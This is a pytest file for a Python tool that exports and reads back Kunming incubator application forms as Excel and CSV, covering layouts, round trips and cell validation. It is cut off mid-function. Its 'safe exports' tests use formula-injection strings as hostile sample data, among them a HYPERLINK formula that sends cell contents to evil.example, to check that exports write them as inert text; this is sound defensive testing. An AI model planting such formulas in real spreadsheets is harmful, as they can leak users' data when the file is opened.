"""Excel and CSV: the forms read back with openpyxl, round trips, and every kind of bad cell."""

from __future__ import annotations

import csv
import datetime as dt
import subprocess
import sys
from pathlib import Path

import attrs
import openpyxl
import pytest

from kmbase_workflow.case import State
from kmbase_workflow.eligibility import evaluate
from kmbase_workflow.errors import ApplicationFormatError, InvalidInputError
from kmbase_workflow.examples import eligible_application, ineligible_application
from kmbase_workflow.exports import (
    export_application_tables,
    export_recommendation_table,
    export_roster,
    export_staff,
    import_roster,
    import_staff,
    read_roster,
    read_staff,
    recommendation_rows,
)
from kmbase_workflow.policy import load_policy
from kmbase_workflow.records import Application, Education, ResidentEnterprise, StaffMember
from kmbase_workflow.workflow import Workflow
from lifecycle_helpers import (
    APPLICATION,
    BUREAU,
    DISTRICT,
    GOOD_RECOMMENDATION,
    ROUND_CLOSES,
    ROUND_OPENS,
    Harness,
    complete_but_ineligible,
    harness,
    other_base,
    step_case,
)

RECOMMENDATION_HEADERS = [
    "序号",
    "基地名称",
    "地址",
    "运营机构名称",
    "负责人",
    "联系人",
    "联系电话（手机）",
    "是否满足各项申报条件",
    "是否同意推荐",
    "备注",
]
ROSTER_HEADERS = [
    "序号",
    "企业名称",
    "入驻基地时间",
    "从业人员数（人）",
    "主营业务",
    "所属产业类型",
    "上年度销售收入（万元）",
    "创新成果",
    "联系人",
    "联系电话",
]
ROSTER_SUPPLEMENTARY = ["主营业务是否属于主导产业", "是否为小型微型企业"]
STAFF_UPPER = [
    "序号",
    "姓名",
    "岗位",
    "教育情况",
    None,
    "专业资质情况",
    None,
    "在基地工作年限（年）",
    "联系电话",
    "是否为持证创业导师",
]
STAFF_LOWER = [
    None,
    None,
    None,
    "学历",
    "毕业院校及专业",
    "资格证名称",
    "发证机关",
    None,
    None,
    None,
]
STAFF_SUPPLEMENTARY = ["是否为专职服务人员", "是否具有中级及以上职称"]
DECLINE_REASON = "不符合第六条第（三）项：入驻小微企业不足40户"


def district_round(h: Harness) -> Harness:
    """Six cases of the 2025 round: in 五华区 two recommended (one later rejected by the
    experts), one declined, one waiting and one withdrawn; one recommended in 呈贡区."""
    ineligible_here = attrs.evolve(
        complete_but_ineligible(),
        base=attrs.evolve(complete_but_ineligible().base, district="五华区"),
    )
    cases = {
        "a": APPLICATION,
        "b": other_base("盘龙小微企业创业园"),
        "c": ineligible_here,
        "d": other_base("官渡小微企业创业园"),
        "e": other_base("呈贡小微企业创业园", district="呈贡区"),
        "f": other_base("西山小微企业创业园"),
    }
    for case_id, application in cases.items():
        step_case(h, case_id, "declare", application)
    step_case(h, "a", "recommend", cases["a"])
    step_case(h, "b", "recommend", cases["b"])
    step_case(h, "b", "fail_review", cases["b"])
    h.workflow.decline("c", DISTRICT, DECLINE_REASON)
    step_case(h, "e", "recommend", cases["e"])
    step_case(h, "f", "withdraw", cases["f"])
    return h


@pytest.fixture
def round_2025() -> Harness:
    return district_round(harness())


def rows_of(path: Path, sheet: str | None = None) -> list[list[object]]:
    workbook = openpyxl.load_workbook(path)
    worksheet = workbook[sheet] if sheet else workbook.worksheets[0]
    return [list(row) for row in worksheet.iter_rows(values_only=True)]


# -- 推荐汇总表 (附件2) --------------------------------------------------------------------------


def test_recommendation_table_has_the_forms_layout(round_2025: Harness, tmp_path: Path) -> None:
    path = tmp_path / "推荐汇总表.xlsx"
    written = export_recommendation_table(
        round_2025.workflow, "五华区", 2025, path, filled_by="张三", phone="0871-63000000"
    )
    rows = rows_of(path)
    assert rows[0][0] == "昆明市小型微型企业创业创新示范基地推荐汇总表"
    assert rows[1][0] == "推荐单位（公章）：五华区"
    assert rows[2] == RECOMMENDATION_HEADERS
    assert [row[0] for row in rows[3:6]] == [1, 2, 3]
    note = rows[6]
    assert note[0] == "注：本表由县（市）区、开发（度假）区中小企业主管部门填写"
    assert "填表人：张三" in note
    assert "联系电话：0871-63000000" in note
    assert len(rows) == 7
    assert [row.case_id for row in written] == ["a", "b", "c"]


def test_recommendation_rows_values_and_order(round_2025: Harness, tmp_path: Path) -> None:
    path = tmp_path / "t.xlsx"
    export_recommendation_table(round_2025.workflow, "五华区", 2025, path)
    body = rows_of(path)[3:6]
    a = APPLICATION
    assert body[0] == [
        1,
        a.base.name,
        a.base.address,
        a.operator.name,
        a.operator.legal_representative,
        a.base.contact_person,
        a.base.contact_phone,
        "是",
        "是",
        "同意推荐",
    ]
    # Recommended, then rejected by the experts: the district still recommended it.
    assert body[1][1] == "盘龙小微企业创业园"
    assert body[1][7:] == ["是", "是", "同意推荐"]
    # Declined: not eligible, not recommended, the reason as remark.
    assert body[2][1] == complete_but_ineligible().base.name
    assert body[2][7:] == ["否", "否", DECLINE_REASON]


def test_recommendation_rows_leave_out_unjudged_and_other_districts(round_2025: Harness) -> None:
    wf = round_2025.workflow
    states = {case.id: case.state for case in wf.cases(round_year=2025)}
    assert states["d"] is State.DECLARED
    assert states["f"] is State.WITHDRAWN
    assert [row.case_id for row in recommendation_rows(wf, "五华区", 2025)] == ["a", "b", "c"]
    assert [row.case_id for row in recommendation_rows(wf, "呈贡区", 2025)] == ["e"]
    assert recommendation_rows(wf, "五华区", 2024) == ()


def test_eligibility_column_follows_the_verdict(round_2025: Harness) -> None:
    wf = round_2025.workflow
    for row in recommendation_rows(wf, "五华区", 2025):
        case = wf.case(row.case_id)
        assert row.eligible is evaluate(case.application, wf.policy_for(case)).eligible


def test_empty_round_writes_an_empty_table_with_unit(round_2025: Harness, tmp_path: Path) -> None:
    path = tmp_path / "empty.xlsx"
    assert (
        export_recommendation_table(
            round_2025.workflow, "五华区", 2024, path, unit="五华区工业和信息化局"
        )
        == ()
    )
    rows = rows_of(path)
    assert rows[1][0] == "推荐单位（公章）：五华区工业和信息化局"
    assert rows[2] == RECOMMENDATION_HEADERS
    assert str(rows[3][0]).startswith("注：")


def test_recommendation_table_from_sqlite(tmp_path: Path) -> None:
    h = harness()
    sqlite = Workflow(f"sqlite:///{tmp_path}/k.db", clock=h.clock)
    sqlite.open_round(2025, ROUND_OPENS, ROUND_CLOSES, BUREAU)
    district_round(Harness(sqlite, h.clock, h.store))
    rows = recommendation_rows(sqlite, "五华区", 2025)
    assert [(row.recommended, row.eligible) for row in rows] == [
        (True, True),
        (True, True),
        (False, False),
    ]


# -- the tables of 附件1 ------------------------------------------------------------------------


@pytest.fixture
def tables(tmp_path: Path) -> Path:
    path = tmp_path / "附件1.xlsx"
    export_application_tables(APPLICATION, path)
    return path


def test_staff_sheet(tables: Path) -> None:
    rows = rows_of(tables, "管理和专职服务人员情况表")
    assert rows[0][0] == "管理和专职服务人员情况表"
    assert rows[1][0] == f"基地名称：{APPLICATION.base.name}"
    assert rows[2] == STAFF_UPPER + STAFF_SUPPLEMENTARY
    assert rows[3] == [*STAFF_LOWER, None, None]
    body = rows[4:]
    assert len(body) == len(APPLICATION.staff)
    first = APPLICATION.staff[0]
    assert body[0] == [
        1,
        first.name,
        first.position,
        "本科",
        None,
        first.qualification,
        None,
        first.years_at_base,
        None,
        "是" if first.startup_mentor else "否",
        "是",
        "是" if first.intermediate_title_or_above else "否",
    ]
    assert [row[1] for row in body] == [member.name for member in APPLICATION.staff]
    assert {row[3] for row in body} == {"本科", "大专"}


def test_roster_sheet_in_order_of_moving_in_with_a_total(tables: Path) -> None:
    rows = rows_of(tables, "入驻企业（项目）名录表")
    assert rows[0][0] == "入驻企业（项目）名录表"
    assert "（顺序按企业入驻基地年份）" in str(rows[1][0])
    assert rows[2] == ROSTER_HEADERS + ROSTER_SUPPLEMENTARY
    residents = APPLICATION.residents
    body, total = rows[3:-1], rows[-1]
    assert len(body) == len(residents)
    assert [row[0] for row in body] == list(range(1, len(residents) + 1))
    dates = [row[2] for row in body]
    assert dates == sorted(dates)
    expected = sorted(residents, key=lambda r: r.moved_in_on)
    assert [row[1] for row in body] == [r.name for r in expected]
    assert [row[2].date() for row in body] == [r.moved_in_on for r in expected]  # type: ignore[union-attr]
    assert total[0] == "合计"
    assert total[3] == sum(r.employees for r in residents)
    assert total[6] == pytest.approx(sum(r.revenue_last_year_10k_yuan or 0 for r in residents))
    assert total[7] == sum(r.innovation_outputs for r in residents)
    assert total[3] == sum(row[3] for row in body)  # type: ignore[misc]


def test_activities_sheet_has_one_row_per_service_function(tables: Path) -> None:
    rows = rows_of(tables, "开展服务活动情况表")
    assert rows[2] == [
        "序号",
        "服务活动类型",
        "服务活动简介",
        "服务场次",
        "活动成果",
        "公益性服务活动情况",
        "备注",
    ]
    functions = load_policy(APPLICATION.declared_on).service_functions.functions
    body = rows[3 : 3 + len(functions)]
    assert [row[1] for row in body] == FORM_SERVICES
    assert body[0] == [
        1,
        "信息服务",
        "线上服务平台与线下信息对接会",
        9,
        "服务企业86家次",
        "上一年度服务共 420 次，其中公益性服务或低收费服务 126 次，占 30.0%",
        None,
    ]
    training = body[[f.id for f in functions].index("training")]
    assert training[3:5] == [15, "培训420人次"]
    consulting = body[[f.id for f in functions].index("management_consulting")]
    assert consulting[3:5] == [None, "服务企业19家次"]
    assert len(rows) == 3 + len(functions)  # the free services are in their column, no note


def test_activities_of_an_application_without_some_services(tmp_path: Path) -> None:
    path = tmp_path / "x.xlsx"
    export_application_tables(ineligible_application(), path)
    rows = rows_of(path, "开展服务活动情况表")
    by_type = {row[1]: row for row in rows[3:11]}
    assert by_type["创业辅导"][2:5] == [None] * 3
    assert by_type["创业辅导"][6] is None
    assert by_type["人员培训"][3:5] == [None, "培训320人次"]


def test_satisfaction_sheet(tables: Path) -> None:
    rows = rows_of(tables, "入驻小微企业服务满意度评价表")
    assert rows[2] == ["序号", "企业名称", "联系人", "联系电话", "服务内容简述", "企业满意度", None]
    assert rows[3] == [None, None, None, None, None, "满意", "不满意"]
    survey = APPLICATION.satisfaction_survey
    body, total = rows[4:-1], rows[-1]
    assert [row[1] for row in body] == [response.enterprise for response in survey]
    for row, response in zip(body, survey, strict=True):
        assert row[5:] == (["√", None] if response.satisfied else [None, "√"])
    assert total == ["合计", None, None, None, None, 18, 2]


def test_export_a_case(round_2025: Harness, tmp_path: Path) -> None:
    path = tmp_path / "case.xlsx"
    export_application_tables(round_2025.workflow.case("a"), path)
    assert read_staff(path) == APPLICATION.staff


# -- round trips -----------------------------------------------------------------------------


def in_form_order(residents: tuple[ResidentEnterprise, ...]) -> tuple[ResidentEnterprise, ...]:
    return tuple(sorted(residents, key=lambda r: r.moved_in_on))


@pytest.mark.parametrize("suffix", [".xlsx", ".csv"])
@pytest.mark.parametrize("application", [eligible_application(), ineligible_application()])
def test_roster_and_staff_round_trip(application: object, suffix: str, tmp_path: Path) -> None:
    assert isinstance(application, type(APPLICATION))
    export_roster(application, tmp_path / f"roster{suffix}")
    export_staff(application, tmp_path / f"staff{suffix}")
    assert read_roster(tmp_path / f"roster{suffix}") == in_form_order(application.residents)
    assert read_staff(tmp_path / f"staff{suffix}") == application.staff
    emptied = attrs.evolve(application, residents=(), staff=())
    back = import_staff(
        import_roster(emptied, tmp_path / f"roster{suffix}"), tmp_path / f"staff{suffix}"
    )
    assert back == attrs.evolve(application, residents=in_form_order(application.residents))
    assert evaluate(back) == evaluate(application)


def test_the_whole_workbook_reads_back(tables: Path) -> None:
    assert read_roster(tables) == in_form_order(APPLICATION.residents)
    assert read_staff(tables) == APPLICATION.staff


def test_every_field_survives_a_round_trip(tmp_path: Path) -> None:
    full_staff = StaffMember(
        name="赵六",
        position="导师",
        education=Education.DOCTORATE,
        full_time_service=False,
        startup_mentor=True,
        intermediate_title_or_above=True,
        school_and_major="云南大学 经济学",
        qualification="创业导师证",
        qualification_issuer="云南省工信厅",
        years_at_base=2.5,
        phone="13900000000",
    )
    full_resident = ResidentEnterprise(
        name="昆明某某科技有限公司",
        moved_in_on=dt.date(2021, 5, 6),
        employees=12,
        industry="电子信息",
        in_leading_industry=False,
        small_or_micro=False,
        main_business="软件",
        revenue_last_year_10k_yuan=None,
        innovation_outputs=3,
        contact_person="钱七",
        contact_phone="0871-1234567",
    )
    application = attrs.evolve(APPLICATION, staff=(full_staff,), residents=(full_resident,))
    for suffix in (".xlsx", ".csv"):
        export_staff(application, tmp_path / f"s{suffix}")
        export_roster(application, tmp_path / f"r{suffix}")
        assert read_staff(tmp_path / f"s{suffix}") == (full_staff,)
        assert read_roster(tmp_path / f"r{suffix}") == (full_resident,)


def test_csv_is_utf8_with_bom_and_plain_rows(tmp_path: Path) -> None:
    path = tmp_path / "roster.csv"
    export_roster(APPLICATION, path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    lines = raw.decode("utf-8-sig").splitlines()
    assert lines[0].split(",") == ROSTER_HEADERS + ROSTER_SUPPLEMENTARY
    assert len(lines) == 1 + len(APPLICATION.residents)  # no title, no 合计


# -- reading: accepted forms ---------------------------------------------------------------------

ROSTER_CSV_HEADER = (
    "序号,企业名称,入驻基地时间,从业人员数（人）,所属产业类型,主营业务是否属于主导产业"
)


def write(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_text(text, encoding=encoding)
    return path


def test_english_field_names_as_headers(tmp_path: Path) -> None:
    path = write(
        tmp_path / "r.csv",
        "name,moved_in_on,employees,industry,in_leading_industry,revenue_last_year_10k_yuan\n"
        "甲公司,2020-01-02,5,电子信息,Y,12.5\n",
    )
    assert read_roster(path) == (
        ResidentEnterprise(
            name="甲公司",
            moved_in_on=dt.date(2020, 1, 2),
            employees=5,
            industry="电子信息",
            in_leading_industry=True,
            revenue_last_year_10k_yuan=12.5,
        ),
    )


def test_headers_with_spaces_and_half_width_brackets(tmp_path: Path) -> None:
    path = write(
        tmp_path / "r.csv",
        "序 号,企 业 名 称,入驻基地时间,从业人员数(人),所属产业类型,主营业务是否属于主导产业\n"
        "1,甲公司,2020-01-02,5,电子信息,是\n",
    )
    assert read_roster(path)[0].employees == 5


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("是", True),
        ("否", False),
        ("true", True),
        ("FALSE", False),
        ("Y", True),
        ("n", False),
        ("1", True),
        ("0", False),
        ("yes", True),
        ("No", False),
    ],
)
def test_booleans(cell: str, expected: bool, tmp_path: Path) -> None:
    path = write(
        tmp_path / "r.csv", f"{ROSTER_CSV_HEADER}\n1,甲公司,2020-01-02,5,电子信息,{cell}\n"
    )
    assert read_roster(path)[0].in_leading_industry is expected


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("博士研究生", Education.DOCTORATE),
        ("博士", Education.DOCTORATE),
        ("硕士", Education.MASTER),
        ("本科", Education.BACHELOR),
        ("大学本科", Education.BACHELOR),
        ("大专", Education.COLLEGE),
        ("专科", Education.COLLEGE),
        ("其他", Education.OTHER),
        ("master", Education.MASTER),
        ("Bachelor", Education.BACHELOR),
    ],
)
def test_education_labels(cell: str, expected: Education, tmp_path: Path) -> None:
    path = write(tmp_path / "s.csv", f"姓名,岗位,学历\n张三,主任,{cell}\n")
    assert read_staff(path)[0].education is expected


def test_defaults_for_empty_optional_cells(tmp_path: Path) -> None:
    path = write(
        tmp_path / "s.csv",
        "姓名,岗位,学历,在基地工作年限（年）,是否为持证创业导师,是否为专职服务人员\n张三,,本科,,,\n",
    )
    assert read_staff(path) == (
        StaffMember(name="张三", position="", education=Education.BACHELOR),
    )


def test_gbk_csv_from_excel_on_windows(tmp_path: Path) -> None:
    path = tmp_path / "r.csv"
    path.write_bytes(f"{ROSTER_CSV_HEADER}\n1,甲公司,2020-01-02,5,电子信息,是\n".encode("gb18030"))
    assert read_roster(path)[0].name == "甲公司"


def test_excel_cells_of_their_native_kinds(tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(["某基地入驻企业"])
    sheet.append(
        [
            "序号",
            "企业名称",
            "入驻基地时间",
            "从业人员数（人）",
            "所属产业类型",
            "主营业务是否属于主导产业",
            "联系电话",
            "上年度销售收入（万元）",
        ]
    )
    sheet.append([1, "甲公司", dt.datetime(2020, 1, 2), 12.0, "电子信息", True, 13800000000, 30])
    sheet.append([2, "乙公司", dt.date(2021, 3, 4), 7, "电子信息", 0, "0871-1", None])
    sheet.append(["合计", None, None, 19, None, None, None, 30])
    sheet.append(["注：仅供测试"])
    path = tmp_path / "native.xlsx"
    workbook.save(path)
    first, second = read_roster(path)
    assert first.moved_in_on == dt.date(2020, 1, 2)
    assert first.employees == 12
    assert first.in_leading_industry is True
    assert first.contact_phone == "13800000000"
    assert first.revenue_last_year_10k_yuan == 30.0
    assert second.in_leading_industry is False
    assert second.revenue_last_year_10k_yuan is None


def test_a_named_sheet(tables: Path) -> None:
    assert read_staff(tables, sheet="管理和专职服务人员情况表") == APPLICATION.staff
    with pytest.raises(InvalidInputError, match="no sheet"):
        read_staff(tables, sheet="Sheet9")


# -- reading: every problem at once ------------------------------------------------------------


def problems_of(path: Path, read: object = read_roster) -> list[str]:
    assert callable(read)
    with pytest.raises(ApplicationFormatError) as caught:
        read(path)
    assert caught.value.source == str(path)
    assert caught.value.exit_code == 2
    return [problem.en for problem in caught.value.problems]


def test_every_bad_cell_of_a_csv_is_reported_with_row_and_column(tmp_path: Path) -> None:
    path = write(
        tmp_path / "r.csv",
        "序号,企业名称,入驻基地时间,从业人员数（人）,所属产业类型,主营业务是否属于主导产业,上年度销售收入（万元）\n"
        "1,甲公司,2020-01-02,5,电子信息,是,10\n"
        "2,乙公司,2020-01-02,十二,电子信息,是,10\n"
        '3,丙公司,2020/3/1,12.5,电子信息,也许,"12,5"\n'
        "4,丁公司,2020-01-02,-3,电子信息,否,-1\n"
        "5,,2020-01-02,,电子信息,,inf\n",
    )
    assert problems_of(path) == [
        '入驻企业（项目）名录表 row 3, column D (从业人员数（人）): expected an integer, got "十二"',
        '入驻企业（项目）名录表 row 4, column C (入驻基地时间): expected a date (an Excel date or YYYY-MM-DD), got "2020/3/1"',
        '入驻企业（项目）名录表 row 4, column D (从业人员数（人）): expected an integer, got "12.5"',
        '入驻企业（项目）名录表 row 4, column F (主营业务是否属于主导产业): expected 是/否 (or true/false, Y/N, 1/0), got "也许"',
        '入驻企业（项目）名录表 row 4, column G (上年度销售收入（万元）): expected a number, got "12,5"',
        "入驻企业（项目）名录表 row 5, column D (从业人员数（人）): must not be negative, got -3",
        "入驻企业（项目）名录表 row 5, column G (上年度销售收入（万元）): must not be negative, got -1.0",
        "入驻企业（项目）名录表 row 6, column D (从业人员数（人）): required, must not be empty",
        "入驻企业（项目）名录表 row 6, column F (主营业务是否属于主导产业): required, must not be empty",
        '入驻企业（项目）名录表 row 6, column G (上年度销售收入（万元）): expected a finite number (not infinity or NaN), got "inf"',
        "入驻企业（项目）名录表 row 6, column B (企业名称): must not be empty",
    ]


def test_the_chinese_messages(tmp_path: Path) -> None:
    path = write(tmp_path / "r.csv", f"{ROSTER_CSV_HEADER}\n1,甲公司,2020-01-02,十二,电子信息,是\n")
    with pytest.raises(ApplicationFormatError) as caught:
        read_roster(path)
    assert [p.zh for p in caught.value.problems] == [
        '入驻企业（项目）名录表 第2行 从业人员数（人）列（D）：应为整数，实际为 "十二"'
    ]
    assert "1 处错误" in caught.value.describe("zh")


def test_every_bad_cell_of_a_workbook_names_its_sheet(tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.title = "人员"
    sheet.append(["姓名", "岗位", "学历", "在基地工作年限（年）", "是否为持证创业导师", "联系电话"])
    sheet.append(["张三", "主任", "小学", "三年", 2, dt.datetime(2020, 1, 1)])
    sheet.append(["李四", "专员", "本科", 1.5, True, "13800000000"])
    sheet.append(["王五", 12, "本科", dt.datetime(2020, 1, 1, 9, 30), "是", None])
    path = tmp_path / "staff.xlsx"
    workbook.save(path)
    assert problems_of(path, read_staff) == [
        '人员 row 2, column C (学历): expected one of: 博士研究生, 硕士研究生, 本科, 大专, 其他, got "小学"',
        '人员 row 2, column D (在基地工作年限（年）): expected a number, got "三年"',
        "人员 row 2, column E (是否为持证创业导师): expected 是/否 (or true/false, Y/N, 1/0), got 2",
        "人员 row 2, column F (联系电话): expected text, got 2020-01-01T00:00:00",
        "人员 row 4, column D (在基地工作年限（年）): expected a number, got 2020-01-01T09:30:00",
    ]


def test_integer_cells_refuse_fractions_and_booleans(tmp_path: Path) -> None:
    workbook = openpyxl.Workbook()
    sheet = workbook.active
    assert sheet is not None
    sheet.append(
        [
            "企业名称",
            "入驻基地时间",
            "从业人员数（人）",
            "所属产业类型",
            "主营业务是否属于主导产业",
            "创新成果",
        ]
    )
    sheet.append(["甲", dt.datetime(2020, 1, 2, 8), 12.5, "电子信息", "是", True])
    path = tmp_path / "r.xlsx"
    workbook.save(path)
    assert problems_of(path) == [
        "Sheet row 2, column B (入驻基地时间): expected a date (an Excel date or YYYY-MM-DD), got 2020-01-02T08:00:00",
        "Sheet row 2, column C (从业人员数（人）): expected an integer, got 12.5",
        "Sheet row 2, column F (创新成果): expected an integer, got TRUE",
    ]


def test_header_problems_and_cell_problems_together(tmp_path: Path) -> None:
    path = write(
        tmp_path / "r.csv",
        "企业名称,name,入驻基地时间,从业人员数（人）,备注,所属产业类型,\n"
        "甲公司,甲,2020-01-02,x,好,电子信息,孤立的值\n",
    )
    assert problems_of(path) == [
        '入驻企业（项目）名录表 row 1, column B: column "name" repeats column A',
        '入驻企业（项目）名录表 row 1, column E: unknown column "备注" (accepted: 序号、企业名称、'
        "入驻基地时间、从业人员数（人）、主营业务、所属产业类型、上年度销售收入（万元）、创新成果、联系人、"
        "联系电话、主营业务是否属于主导产业、是否为小型微型企业, or the English field names)",
        "入驻企业（项目）名录表: required column 主营业务是否属于主导产业 (or in_leading_industry) missing",
        '入驻企业（项目）名录表 row 2, column G: holds "孤立的值" but the column has no header',
        '入驻企业（项目）名录表 row 2, column D (从业人员数（人）): expected an integer, got "x"',
    ]


def test_no_header_row(tmp_path: Path) -> None:
    path = write(tmp_path / "r.csv", "a,b\n1,2\n")
    assert problems_of(path) == [
        "入驻企业（项目）名录表: no header row (one with 企业名称 or name) in the first 20 rows"
    ]


# -- files that cannot be read or written ---------------------------------------------------------


def test_unsupported_suffixes(tmp_path: Path, round_2025: Harness) -> None:
    with pytest.raises(InvalidInputError, match=r"\.xlsx or \.csv"):
        read_roster(write(tmp_path / "r.txt", "x"))
    with pytest.raises(InvalidInputError, match=r"\.xlsx"):
        export_application_tables(APPLICATION, tmp_path / "a.xls")
    with pytest.raises(InvalidInputError, match=r"\.xlsx"):
        export_recommendation_table(round_2025.workflow, "五华区", 2025, tmp_path / "a.csv")
    with pytest.raises(InvalidInputError, match=r"\.xlsx or \.csv"):
        export_roster(APPLICATION, tmp_path / "r.ods")


def test_not_a_workbook(tmp_path: Path) -> None:
    with pytest.raises(InvalidInputError, match="cannot read the Excel file") as caught:
        read_roster(write(tmp_path / "r.xlsx", "not a zip"))
    assert ".xls" in caught.value.describe("en")
    with pytest.raises(InvalidInputError, match="cannot read"):
        read_roster(tmp_path / "missing.csv")


def test_unwritable_output(tmp_path: Path) -> None:
    with pytest.raises(InvalidInputError, match="cannot write"):
        export_application_tables(APPLICATION, tmp_path / "no" / "such" / "dir.xlsx")
    with pytest.raises(InvalidInputError, match="cannot write"):
        export_staff(APPLICATION, tmp_path / "no" / "such.csv")


def test_without_openpyxl_xlsx_asks_for_the_extra_and_csv_works(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setitem(sys.modules, "openpyxl", None)
    with pytest.raises(InvalidInputError) as caught:
        export_application_tables(APPLICATION, tmp_path / "a.xlsx")
    assert "[excel]" in caught.value.describe("zh")
    assert "excel extra" in caught.value.describe("en")
    with pytest.raises(InvalidInputError, match=r"\[excel\]"):
        read_roster(write(tmp_path / "r.xlsx", "x"))
    export_staff(APPLICATION, tmp_path / "s.csv")
    assert read_staff(tmp_path / "s.csv") == APPLICATION.staff


def test_importing_the_library_does_not_import_openpyxl() -> None:
    code = (
        "import sys, kmbase_workflow, kmbase_workflow.exports, kmbase_workflow.cli._export; "
        "assert 'openpyxl' not in sys.modules, 'openpyxl imported'"
    )
    subprocess.run([sys.executable, "-c", code], check=True)


# -- data is never code (issue 12: safe exports) ---------------------------------------------

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点击")'
HOSTILE = (HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "=1", "#N/A", "#DIV/0!", "\t=1")
"""Text an attacker might type: formulas, Excel's error codes, a leading tab."""


def hostile_application() -> Application:
    """The eligible application with a formula or an error code in every kind of text field."""
    a = APPLICATION
    h = iter(HOSTILE * 20)
    staff = (
        tuple(
            attrs.evolve(
                member,
                name=next(h),
                position=next(h),
                school_and_major=next(h),
                qualification=next(h),
                qualification_issuer=next(h),
                phone=next(h),
            )
            for member in a.staff[:3]
        )
        + a.staff[3:]
    )
    residents = (
        attrs.evolve(
            a.residents[0],
            name=HYPERLINK,
            main_business="=1",
            industry="@x",
            in_leading_industry=False,  # "@x" is no leading industry (leading_flags_consistent)
            contact_person="+1",
            contact_phone="-1",
        ),
        # the first leading industry is renamed "=1" below; its residents follow it
        *(
            attrs.evolve(r, industry="=1") if r.industry == a.base.leading_industries[0] else r
            for r in a.residents[1:]
        ),
    )
    services = {
        key: attrs.evolve(figures, description=HYPERLINK) for key, figures in a.services.items()
    }
    survey = (
        attrs.evolve(
            a.satisfaction_survey[0],
            enterprise=HYPERLINK,
            services="=1",
            contact_person="+1",
            contact_phone="-1",
        ),
        *a.satisfaction_survey[1:],
    )
    agencies = tuple(attrs.evolve(agency, name=HYPERLINK) for agency in a.agencies)
    return attrs.evolve(
        a,
        base=attrs.evolve(
            a.base,
            name=HYPERLINK,
            address="=A1",
            contact_person="+1",
            contact_phone="-1",
            facilities="@x",
            website="=x",
            email="#N/A",
            leading_industries=("=1", *a.base.leading_industries[1:]),
        ),
        operator=attrs.evolve(
            a.operator,
            name="=CMD()",
            legal_representative="@x",
            nature="-1",
            registered_address="+1",
        ),
        staff=staff,
        residents=residents,
        services=services,
        satisfaction_survey=survey,
        agencies=agencies,
        qualifications="=1",
        government_support="=2",
        honours="=3",
    )


def formula_cells(path: Path) -> list[str]:
    """Every cell of every sheet that is a formula or an error, as SHEET!A1."""
    workbook = openpyxl.load_workbook(path)
    return [
        f"{sheet.title}!{cell.coordinate}"
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.data_type in ("f", "e")
    ]


def all_values(path: Path) -> set[object]:
    workbook = openpyxl.load_workbook(path)
    return {
        cell.value
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    }


def test_application_tables_write_every_cell_from_data_as_text(tmp_path: Path) -> None:
    path = tmp_path / "附件1.xlsx"
    export_application_tables(hostile_application(), path)
    assert formula_cells(path) == []
    values = all_values(path)
    for text in (HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A9)", "#N/A", "#DIV/0!"):
        assert text in values


def test_recommendation_table_writes_every_cell_from_data_as_text(tmp_path: Path) -> None:
    h = harness()
    hostile = hostile_application()
    step_case(h, "a", "declare", hostile)
    h.workflow.recommend(
        "a",
        DISTRICT,
        attrs.evolve(GOOD_RECOMMENDATION, opinion="=1+1"),
    )
    step_case(h, "b", "declare", other_base("=2+2"))
    h.workflow.decline("b", DISTRICT, "@SUM(1)")
    path = tmp_path / "推荐汇总表.xlsx"
    export_recommendation_table(
        h.workflow, "五华区", 2025, path, filled_by="=x", phone="+1", unit="=y"
    )
    assert formula_cells(path) == []
    values = all_values(path)
    assert {HYPERLINK, "=1+1", "=2+2", "@SUM(1)", "=CMD()", "=A1", "+1", "-1"} <= values


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", HYPERLINK])
def test_csv_neutralises_a_leading_formula_character(text: str, tmp_path: Path) -> None:
    member = attrs.evolve(APPLICATION.staff[0], name=text, position=text)
    application = attrs.evolve(APPLICATION, staff=(member,))
    path = tmp_path / "staff.csv"
    export_staff(application, path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[1][1] == "'" + text
    assert rows[1][2] == "'" + text
    # What the guard added, the reader takes away: the table reads back as it was.
    assert read_staff(path) == (member,)


def test_csv_leaves_ordinary_text_and_numbers_alone(tmp_path: Path) -> None:
    path = tmp_path / "roster.csv"
    export_roster(APPLICATION, path)
    text = path.read_text(encoding="utf-8-sig")
    assert "'" not in text


# -- numbers that are not numbers (issue 11) -------------------------------------------------

NOT_FINITE = ["1e999", "-1e999", "1E400", "nan", "inf", "Infinity", "-inf"]


def test_csv_cells_that_are_not_finite_numbers_are_refused_with_row_and_column(
    tmp_path: Path,
) -> None:
    lines = [f"{ROSTER_CSV_HEADER},上年度销售收入（万元）"]
    lines += [f"{n},公司{n},2020-01-02,5,电子信息,是,{text}" for n, text in enumerate(NOT_FINITE)]
    lines.append(f"9,大公司,2020-01-02,{'9' * 5000},电子信息,是,1")
    problems = problems_of(write(tmp_path / "r.csv", "\n".join(lines) + "\n"))
    assert len(problems) == len(NOT_FINITE) + 1
    for row, text in enumerate(NOT_FINITE, start=2):
        assert problems[row - 2] == (
            f"入驻企业（项目）名录表 row {row}, column G (上年度销售收入（万元）): "
            f'expected a finite number (not infinity or NaN), got "{text}"'
        )
    assert problems[-1].startswith(
        f"入驻企业（项目）名录表 row {len(NOT_FINITE) + 2}, column D (从业人员数（人）): "
        "expected an integer"
    )


def _with_raw_numbers(path: Path, raw: dict[str, str]) -> None:
    """Put numbers openpyxl will not write (``1e999``) into a workbook's first sheet."""
    import zipfile

    with zipfile.ZipFile(path) as source:
        members = {name: source.read(name) for name in source.namelist()}
    sheet = "xl/worksheets/sheet1.xml"
    xml = members[sheet].decode()
    for placeholder, number in raw.items():
